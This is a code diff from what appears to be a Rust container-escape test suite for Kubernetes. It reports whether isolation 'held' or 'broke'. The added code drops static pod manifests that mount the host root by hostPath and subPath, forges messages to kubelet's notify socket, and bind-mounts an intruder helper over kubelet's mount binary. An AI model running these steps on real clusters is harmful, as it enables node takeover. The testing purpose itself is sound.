@@ -74,35 +74,47 @@ pub fn through_volume(target: &mut Target) -> Vec<Attack> {
     attacks
 }
 
-/// A pod with a part of the node's file systems, which kubelet binds for it: of those that kubelet sees.
-const SEEING: &str = r#"
+/// Where the manifests are.
+const MANIFESTS: &str = "/host/etc/kubernetes/manifests";
+
+/// Starts a pod that has `part` of the node's file systems at the place of its name. Kubelet binds that for it, of those that
+/// it sees itself. Put there whole: kubelet looks again at what it could not read after 20 s.
+fn with_part(name: &str, part: &str) -> String {
+    let pod = format!(
+        r#"
 apiVersion: v1
 kind: Pod
-metadata: {name: seeing, namespace: default}
+metadata: {{name: {name}, namespace: default}}
 spec:
   hostNetwork: true
   terminationGracePeriodSeconds: 1
   containers:
-    - name: seeing
+    - name: {name}
       image: localhost/container-a:1
       imagePullPolicy: Never
       command: [sh, -c, "sleep 900"]
-      volumeMounts: [{name: root, mountPath: /seen, subPath: kios}]
-  volumes: [{name: root, hostPath: {path: /}}]
-"#;
+      volumeMounts: [{{name: root, mountPath: /{name}, subPath: {part}}}]
+  volumes: [{{name: root, hostPath: {{path: /}}}}]
+"#
+    );
+    format!("cat >{MANIFESTS}.new <<'END'{pod}END\nmv {MANIFESTS}.new {MANIFESTS}/{name}.yaml")
+}
 
-/// Kubelet's sockets, by such a pod.
+/// Waits until some process sees `path`, whose root is then in $root, or until `other` succeeds.
+fn until_seen(path: &str, other: &str) -> String {
+    format!(
+        "for n in $(seq 600); do for pid in $(ls /proc | grep '^[0-9]'); do root=/proc/$pid/root; \
+         [ ! -e $root{path} ] || break 2; done; root=; {other} && break; sleep 0.1; done"
+    )
+}
+
+/// What kubelet sees and does, by parts of volumes.
 pub fn through_kubelet(target: &mut Target) -> Vec<Attack> {
-    // Put there whole: kubelet looks again at what it could not read after 20 s.
-    let manifests = "/host/etc/kubernetes/manifests";
     let said = target.sh(&format!(
-        "cat >{manifests}.seeing <<'END'{SEEING}END\n\
-         mv {manifests}.seeing {manifests}/seeing.yaml; \
-         for n in $(seq 600); do for pid in $(ls /proc | grep '^[0-9]'); do \
-         [ ! -S /proc/$pid/root/seen/notify ] || {{ ls /proc/$pid/root/seen; \
-         /tmp/intruder forge /proc/$pid/root/seen/notify $(pidof kubelet) STATUS=; break 2; }}; done; \
-         grep -m 1 -o 'failed to prepare subPath.*' /host/var/log/kubelet.log && break; sleep 0.1; done; \
-         rm {manifests}/seeing.yaml"
+        "{}\n{}; [ -z \"$root\" ] || {{ ls $root/seeing; /tmp/intruder forge $root/seeing/notify $(pidof kubelet) STATUS=; }}; \
+         rm {MANIFESTS}/seeing.yaml",
+        with_part("seeing", "kios"),
+        until_seen("/seeing/notify", "grep -m 1 -o 'failed to prepare subPath.*' /host/var/log/kubelet.log")
     ));
     let verdict = if said.contains("forged: open") {
         Verdict::Broken(said.replace('\n', " "))
@@ -110,7 +122,25 @@ pub fn through_kubelet(target: &mut Target) -> Vec<Attack> {
         assert!(said.contains("failed to prepare subPath"), "{said}");
         Verdict::Held("kubelet cannot bind it".into())
     };
-    vec![Attack::new("kubelet's sockets, as a subPath", verdict)]
+    let sockets = Attack::new("kubelet's sockets, as a subPath", verdict);
+
+    target.sh(&format!("{}\n{}; [ -n \"$root\" ]", with_part("part", "usr"), until_seen("/part/bin/mount", "false")));
+    let place = "/var/lib/kubelet/pods/*/volume-subpaths/root/part/0/bin/mount";
+    let (status, output) = target.beside_containerd(&format!("mount --bind /run/intruder/helper {place}"));
+    assert_eq!(status, 0, "{output}");
+    let said = target.sh(&format!(
+        "{}\n{}; [ -z \"$root\" ] || echo bound; cat /host/run/intruder/mark 2>/dev/null; rm -f /host/run/intruder/mark",
+        with_part("more", "usr"),
+        until_seen("/more/bin/mount", "[ -e /host/run/intruder/mark ]")
+    ));
+    target.beside_containerd(&format!("umount {place}"));
+    target.sh(&format!("rm {MANIFESTS}/part.yaml {MANIFESTS}/more.yaml"));
+    let verdict = if said == "bound" {
+        Verdict::Held("it runs its own".into())
+    } else {
+        Verdict::Broken(format!("kubelet runs the intruder's: {}", said.replace('\n', " ")))
+    };
+    vec![sockets, Attack::new("kubelet's mount program covered, by a subPath of /usr", verdict)]
 }
 
 /// Makes them one after the other.
